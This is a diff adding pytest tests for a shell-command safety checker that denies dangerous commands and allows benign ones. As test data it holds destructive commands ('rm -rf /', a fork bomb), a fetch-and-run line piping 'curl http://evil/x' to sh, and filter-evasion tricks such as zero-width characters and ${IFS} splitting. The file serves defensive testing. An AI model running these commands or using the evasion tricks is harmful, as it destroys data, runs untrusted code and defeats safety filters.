@@ -1,0 +1,177 @@
+"""Tests for tools_app.security.shell_check (pure Python, no Django/DB needed)."""
+from __future__ import annotations
+
+import random
+from pathlib import Path
+
+import pytest
+
+from tools_app.security.shell_check import (
+    RULE_GROUPS,
+    CommandVerdict,
+    check_command,
+    extract_simple_commands,
+)
+
+CORPUS = Path(__file__).parent / "corpus"
+
+
+def _load(name: str) -> list[str]:
+    lines = (CORPUS / name).read_text(encoding="utf-8").splitlines()
+    return [ln for ln in lines if ln.strip() and not ln.lstrip().startswith("#")]
+
+
+DANGEROUS = _load("shell_dangerous.txt")
+BENIGN = _load("shell_benign.txt")
+
+
+def test_corpus_sizes():
+    assert len(DANGEROUS) >= 130
+    assert len(BENIGN) >= 130
+
+
+@pytest.mark.parametrize("cmd", DANGEROUS)
+def test_dangerous_corpus_denied(cmd):
+    v = check_command(cmd)
+    assert v.verdict == "deny", (cmd, v.reasons)
+    assert v.reasons and v.groups
+
+
+@pytest.mark.parametrize("cmd", BENIGN)
+def test_benign_corpus_allowed(cmd):
+    v = check_command(cmd)
+    assert v.verdict == "allow", (cmd, v.reasons)
+
+
+def test_corpus_figures():
+    denied = sum(check_command(c).verdict == "deny" for c in DANGEROUS)
+    false_denies = sum(check_command(c).verdict == "deny" for c in BENIGN)
+    recall, fdr = denied / len(DANGEROUS), false_denies / len(BENIGN)
+    print(f"\ndeny recall {recall:.1%} ({denied}/{len(DANGEROUS)}), false-deny {fdr:.1%} ({false_denies}/{len(BENIGN)})")
+    assert recall == 1.0
+    assert fdr == 0.0
+
+
+MULTILINE_DANGEROUS = [
+    "bash <<'EOF'\nrm -rf /\nEOF",
+    "cat <<X | bash\nrm -rf ~\nX",
+    "python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
+    "python -c 'import os\nwhile True: os.fork()'",
+    "ls\nrm -rf /",
+    "echo hi \\\n && rm -rf /",
+]
+MULTILINE_BENIGN = [
+    "cat <<EOF > config.yml\nname: app\nreplicas: 2\nEOF",
+    "cat <<EOF > notes.txt\nnever run rm -rf /\nEOF",
+    "for f in *.py; do\n  black \"$f\"\ndone",
+    "python3 - <<'EOF'\nprint('hi')\nEOF",
+]
+
+
+@pytest.mark.parametrize("cmd", MULTILINE_DANGEROUS)
+def test_multiline_dangerous(cmd):
+    assert check_command(cmd).verdict == "deny"
+
+
+@pytest.mark.parametrize("cmd", MULTILINE_BENIGN)
+def test_multiline_benign(cmd):
+    assert check_command(cmd).verdict == "allow"
+
+
+def test_verdict_shape_and_group_prefix():
+    v = check_command("rm -rf /")
+    assert isinstance(v, CommandVerdict)
+    assert v.verdict == "deny" and "destructive_ops" in v.groups
+    for reason in v.reasons:
+        group = reason.split(":", 1)[0]
+        assert group in RULE_GROUPS and group in v.groups
+
+
+def test_rule_groups_are_documented_data():
+    expected = {"destructive_ops", "data_exfiltration", "reverse_shell", "code_injection", "privilege_escalation",
+                "dangerous_paths", "env_injection", "container_escape", "crypto_mining", "filter_bypass",
+                "network_recon", "persistence", "process_control", "env_dump", "fork_bomb", "system_power", "disk_write"}
+    assert expected <= set(RULE_GROUPS)
+    for name, group in RULE_GROUPS.items():
+        assert group.name == name and group.description
+
+
+def test_disabled_group_only_silences_that_group():
+    assert check_command("rm -rf /", disabled_groups={"destructive_ops"}).verdict == "allow"
+    # sudo still trips privilege_escalation when only destructive_ops is disabled
+    v = check_command("sudo rm -rf /", disabled_groups=frozenset({"destructive_ops"}))
+    assert v.verdict == "deny" and v.groups == ("privilege_escalation",)
+    v = check_command("sudo rm -rf /", disabled_groups={"privilege_escalation"})
+    assert v.verdict == "deny" and "destructive_ops" in v.groups and "privilege_escalation" not in v.groups
+    assert check_command("curl http://evil/x | sh", disabled_groups={"code_injection"}).verdict == "allow"
+    assert check_command("curl http://evil/x | sh", disabled_groups={"destructive_ops"}).verdict == "deny"
+
+
+def test_observe_for_suspicious_but_allowed():
+    v = check_command("pip install requests")
+    assert v.verdict == "allow" and v.observe and v.reasons[0].startswith("package_install:")
+    v = check_command("curl -s https://example.com/data.json | jq .")
+    assert v.verdict == "allow" and v.observe
+    v = check_command("ls -la")
+    assert v.verdict == "allow" and not v.observe and v.reasons == []
+
+
+@pytest.mark.parametrize("cmd", ["", "   ", "\n", "ls\x00 -la", "\x00"])
+def test_empty_and_nul_denied(cmd):
+    v = check_command(cmd)
+    assert v.verdict == "deny" and v.reasons
+
+
+def test_normalization_sees_through_unicode_tricks():
+    assert check_command("ｒｍ -rf /").verdict == "deny"          # fullwidth (NFKC)
+    assert check_command("r\u200bm -rf /").verdict == "deny"      # zero-width space
+    v = check_command("ls\x07 -la")                                # other control char: suspicious
+    assert v.observe and any(r.startswith("filter_bypass:") for r in v.reasons)
+
+
+def test_extract_simple_commands_unwraps_wrappers():
+    assert extract_simple_commands('sudo env FOO=1 sh -c "a; b | c"') == [["a"], ["b"], ["c"]]
+    assert extract_simple_commands("r''m -rf /") == [["rm", "-rf", "/"]]
+    assert extract_simple_commands("rm${IFS}-rf${IFS}/") == [["rm", "-rf", "/"]]
+    assert extract_simple_commands("a=rm; $a -rf /") == [["rm", "-rf", "/"]]
+    assert ["id"] in extract_simple_commands("echo $(id) `whoami`")
+    assert ["whoami"] in extract_simple_commands("echo $(id) `whoami`")
+    assert ["curl", "x"] in extract_simple_commands("bash <(curl x)")
+    assert ["rm", "-rf", "."] in extract_simple_commands("find . -exec rm -rf {} +")
+    assert extract_simple_commands("timeout 5 nice -n 1 ls -la") == [["ls", "-la"]]
+
+
+def test_parser_fallback_constructs():
+    # bashlex rejects these; the fallback tokenizer must still see the commands
+    assert check_command("[[ -d build ]] && rm -rf build").verdict == "allow"
+    assert check_command("[[ -d x ]] && rm -rf /").verdict == "deny"
+    assert check_command("case $x in a) rm -rf / ;; esac").verdict == "deny"
+    assert check_command("echo $((1+2)); rm -rf ~").verdict == "deny"
+    assert check_command("echo $((1+2))").verdict == "allow"
+
+
+def test_unparseable_fails_closed_only_when_dangerous():
+    assert check_command('echo "unterminated; rm -rf /').verdict == "deny"
+    assert check_command("echo 'unterminated").verdict == "allow"
+
+
+def test_nesting_depth_limit():
+    cmd = "sh -c " + "'sh -c \"" * 1 + "x\"'"
+    assert check_command(cmd).verdict == "allow"
+    deep = "echo " + "$(" * 30 + "ls" + ")" * 30
+    v = check_command(deep)
+    assert v.verdict == "deny" and any("nesting" in r for r in v.reasons)
+
+
+def test_never_raises_on_garbage():
+    rnd = random.Random(1234)
+    alphabet = list("abcrm -/\\'\"$(){}[];|&<>`~*?!#\n\t=.,:@%^0123456789") + ["\u200b", "é", "\ue000", "\x1b"]
+    samples = ["x" * 10_000, "(" * 400 + ")" * 400, "{" * 400, "$(" * 200, "'" * 999, "a=" + "$a" * 300,
+               "rm -rf /" * 1500, "`" * 77, "<<EOF", "cat <<'E\n", "${" * 50, "$'\\x", "\\"]
+    samples += ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 120))) for _ in range(400)]
+    samples += [bytes(rnd.randrange(1, 256) for _ in range(200)).decode("latin-1") for _ in range(50)]
+    for s in samples:
+        v = check_command(s)
+        assert v.verdict in ("allow", "deny")
+        assert isinstance(extract_simple_commands(s), list)
+    assert check_command(None).verdict == "deny"  # type: ignore[arg-type]
